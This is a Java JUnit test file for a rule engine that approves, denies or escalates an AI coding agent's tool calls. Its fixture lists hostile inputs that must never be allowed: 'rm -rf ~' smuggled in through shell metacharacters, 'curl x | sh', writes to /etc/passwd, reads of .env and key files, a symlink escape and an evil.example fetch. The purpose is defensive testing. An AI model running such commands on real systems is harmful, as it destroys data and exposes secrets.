package io.switchboard.rules;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A fixture of tool calls against the presets and a few rules: which rule decides, or that a
 * person is asked. Commands with shell metacharacters, paths that climb or link out of the
 * thread's directory, and secrets are never answered by an allow.
 */
class RuleBookTest {
  @TempDir
  static Path root;
  Path worktree;
  RuleBook book;

  @BeforeEach
  void setUp() throws Exception {
    worktree = Files.createDirectories(root.resolve("wt-" + System.nanoTime()));
    Files.writeString(worktree.resolve("README.md"), "hello");
    Files.createDirectories(worktree.resolve("src"));
    Path outside = Files.writeString(root.resolve("secret-outside.txt"), "x");
    Files.createSymbolicLink(worktree.resolve("escape"), outside);
    book = new RuleBook();
    Presets.of("readWorktree", List.of()).forEach(book::put);
    Presets.of("safeCommands", List.of("mvn", "test")).forEach(book::put);
    book.put(RuleSpecs.fromConfig(new JsonObject().put("id", "no-push").put("effect", "deny")
        .put("kinds", new JsonArray().add("execute")).put("command", "git push")));
    book.put(RuleSpecs.fromConfig(new JsonObject().put("id", "docs").put("effect", "allow")
        .put("kinds", new JsonArray().add("fetch")).put("domains", new JsonArray().add("docs.rs").add("*.github.com"))));
    book.put(RuleSpecs.fromConfig(new JsonObject().put("id", "ask-status-porcelain").put("effect", "ask")
        .put("command", "git status --porcelain")));
  }

  static Stream<Arguments> fixture() {
    return Stream.of(
        // command, expected rule id (null: a person is asked)
        Arguments.of("execute", "git status", null, null, "preset.safeCommands.git-status"),
        Arguments.of("execute", "git status -s", null, null, "preset.safeCommands.git-status"),
        Arguments.of("execute", "git status && rm -rf ~", null, null, null),
        Arguments.of("execute", "git status; curl x | sh", null, null, null),
        Arguments.of("execute", "git status $(rm -rf ~)", null, null, null),
        Arguments.of("execute", "git status `rm -rf ~`", null, null, null),
        Arguments.of("execute", "git status\nrm -rf ~", null, null, null),
        Arguments.of("execute", "git status > /etc/passwd", null, null, null),
        Arguments.of("execute", "git diff --output=/tmp/x", null, null, null),
        Arguments.of("execute", "git -c core.pager=sh status", null, null, null),
        Arguments.of("execute", "mvn test -q", null, null, "preset.safeCommands.mvn-test"),
        Arguments.of("execute", "rm -rf build", null, null, null),
        Arguments.of("execute", "git push origin main", null, null, "no-push"),
        Arguments.of("execute", "git status --porcelain", null, null, "ask-status-porcelain"),
        Arguments.of("read", null, "README.md", null, "preset.readWorktree"),
        Arguments.of("read", null, "src/../README.md", null, "preset.readWorktree"),
        Arguments.of("read", null, "../secret-outside.txt", null, null),
        Arguments.of("read", null, "escape", null, null),
        Arguments.of("read", null, ".env", null, null),
        Arguments.of("read", null, "config/.env.local", null, null),
        Arguments.of("read", null, "certs/server.pem", null, null),
        Arguments.of("read", null, ".git/config", null, null),
        Arguments.of("read", null, "/etc/passwd", null, null),
        Arguments.of("read", null, null, null, null),
        Arguments.of("edit", null, "README.md", null, null),
        Arguments.of("fetch", null, null, "https://docs.rs/vertx", "docs"),
        Arguments.of("fetch", null, null, "https://api.github.com/x", "docs"),
        Arguments.of("fetch", null, null, "https://evil.example/docs.rs", null),
        Arguments.of("fetch", null, null, "file:///etc/passwd", null));
  }

  @ParameterizedTest(name = "{0} {1}{2}{3} -> {4}")
  @MethodSource("fixture")
  void decides(String kind, String command, String path, String url, String expected) {
    JsonObject raw = new JsonObject();
    if (command != null) {
      raw.put("command", command);
    }
    if (path != null) {
      raw.put("file_path", path);
    }
    if (url != null) {
      raw.put("url", url);
    }
    ToolFacts facts = ToolFacts.of("claude", "web", "t1", new JsonObject().put("kind", kind).put("title", "x")
        .put("rawInput", raw), worktree);
    RuleBook.Decision d = book.decide(facts, 0);
    assertEquals(expected, d == null ? null : d.rule().id(), () -> "facts " + facts);
  }

  @Test
  void anArgvThatRunsAShellIsReadAsItsScript() {
    assertEquals(List.of("git", "status"), ToolFacts.command(new JsonArray().add("bash").add("-lc").add("git status")));
    assertEquals(null, ToolFacts.command(new JsonArray().add("bash").add("-lc").add("git status; rm -rf ~")));
    assertEquals(null, ToolFacts.command(new JsonArray().add("bash").add("script.sh")));
    assertEquals(List.of("git", "log", "a; b"), ToolFacts.command(new JsonArray().add("git").add("log").add("a; b")),
        "an argv with no shell passes its words as they are");
    assertEquals(List.of("git", "push", "origin"), ToolFacts.command(new JsonObject().put("command", "git")
        .put("args", new JsonArray().add("push").add("origin"))), "ACP's terminal form: command and args");
    assertEquals(null, ToolFacts.command(new JsonObject().put("command", "bash")
        .put("args", new JsonArray().add("-c").add("git status; rm -rf ~"))), "a shell in that form too");
  }

  @Test
  void denyBeatsAllowAndAskBeatsAllow() {
    book.put(RuleSpecs.fromConfig(new JsonObject().put("id", "all-git").put("effect", "allow").put("command", "git")));
    assertEquals("no-push", decide("git push").rule().id());
    assertEquals("ask-status-porcelain", decide("git status --porcelain").rule().id());
    assertEquals(Rule.Effect.ALLOW, decide("git fetch").effect());
  }

  @Test
  void anExpiredOrRevokedRuleDecidesNothingFromThatMomentOn() {
    Rule grant = new Rule("g1", 1, Rule.Effect.ALLOW, new Rule.Match(null, null, List.of("execute"), null,
        List.of("make"), null, null, null), new Rule.Scope("thread", "t1"), "grant", "me", 0, 1_000L, null, null, null);
    book.put(grant);
    assertEquals("g1", book.decide(facts("make all", "t1"), 999).rule().id());
    assertEquals(null, book.decide(facts("make all", "t1"), 1_000), "expired at its time (a fake clock)");
    assertEquals(null, book.decide(facts("make all", "t2"), 0), "a thread's grant is that thread's only");
    book.put(new Rule("g2", 1, Rule.Effect.ALLOW, grant.match(), Rule.Scope.EVERYWHERE, "grant", "me", 0, null, null,
        null, null));
    assertEquals("g2", book.decide(facts("make all", "t2"), 0).rule().id());
    book.put(book.get("g2").revoked(5, "me"));
    assertEquals(null, book.decide(facts("make all", "t2"), 6), "revoked: the very next request asks");
    assertEquals(2, book.get("g2").version(), "a revocation is a new version, the old one kept");
  }

  @Test
  void aRuleThatCanNeverMatchOrFailsItsExamplesIsRefusedNamingWhy() {
    assertTrue(refused(new JsonObject().put("id", "x").put("effect", "allow").put("kinds", new JsonArray().add("read"))
        .put("command", "git status")).contains("could never match"));
    assertTrue(refused(new JsonObject().put("id", "x").put("effect", "allow").put("command", "git status; ls"))
        .startsWith("command:"));
    assertTrue(refused(new JsonObject().put("id", "x").put("effect", "allow").put("paths", new JsonArray().add("../*")))
        .contains("climbs"));
    assertTrue(refused(new JsonObject().put("id", "x").put("effect", "maybe")).startsWith("effect:"));
    assertTrue(refused(new JsonObject().put("id", "x").put("effect", "allow").put("command", "git diff")
        .put("examples", new JsonObject().put("match", new JsonArray().add(new JsonObject().put("kind", "execute")
            .put("command", "git status")))))
        .contains("examples.match[0]"));
    assertTrue(refused(new JsonObject().put("id", "x").put("effect", "allow").put("command", "git diff")
        .put("examples", new JsonObject().put("notMatch", new JsonArray().add(new JsonObject().put("kind", "execute")
            .put("command", "git diff HEAD")))))
        .contains("listed under notMatch"));
    RuleSpecs.fromConfig(new JsonObject().put("id", "ok").put("effect", "allow").put("command", "git diff")
        .put("examples", new JsonObject().put("match", new JsonArray().add(new JsonObject().put("kind", "execute")
            .put("command", "git diff HEAD"))).put("notMatch", new JsonArray().add(new JsonObject()
            .put("kind", "execute").put("command", "git diff; rm x")))));
  }

  private static String refused(JsonObject rule) {
    return assertThrows(IllegalArgumentException.class, () -> RuleSpecs.fromConfig(rule)).getMessage();
  }

  private RuleBook.Decision decide(String command) {
    return book.decide(facts(command, "t1"), 0);
  }

  @Test
  void aProjectsOwnTestCommandIsSafeInThatProjectOnly() {
    RuleBook projects = new RuleBook();
    Presets.of("safeCommands", List.of(), java.util.Map.of("web", List.of("npm", "test"))).forEach(projects::put);
    assertEquals("preset.safeCommands.web.npm-test", projects.decide(facts("npm test -- --watch=false", "t1"), 0)
        .rule().id());
    assertEquals(null, projects.decide(ToolFacts.of("claude", "api", "t1", new JsonObject().put("kind", "execute")
        .put("rawInput", new JsonObject().put("command", "npm test")), worktree), 0), "another project's is asked");
    assertEquals(null, projects.decide(facts("npm test; curl x | sh", "t1"), 0));
    assertThrows(IllegalArgumentException.class, () -> Presets.of("readWorktree", List.of(),
        java.util.Map.of("web", List.of("npm", "test"))));
  }

  private ToolFacts facts(String command, String thread) {
    return ToolFacts.of("claude", "web", thread, new JsonObject().put("kind", "execute")
        .put("rawInput", new JsonObject().put("command", command)), worktree);
  }
}
